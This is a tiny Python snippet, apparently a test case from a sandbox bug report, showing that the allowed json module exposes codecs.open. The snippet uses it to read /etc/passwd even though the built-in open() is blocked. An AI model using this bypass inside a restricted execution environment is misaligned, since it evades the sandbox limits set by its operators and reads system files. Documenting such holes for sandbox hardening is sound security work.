# Source: https://github.com/VectorlyApp/bluebox/issues/126 (allowed modules expose others)
# Family: module-attribute
# What: json.codecs.open reads a file without open()
import json

print(json.codecs.open("/etc/passwd").read())
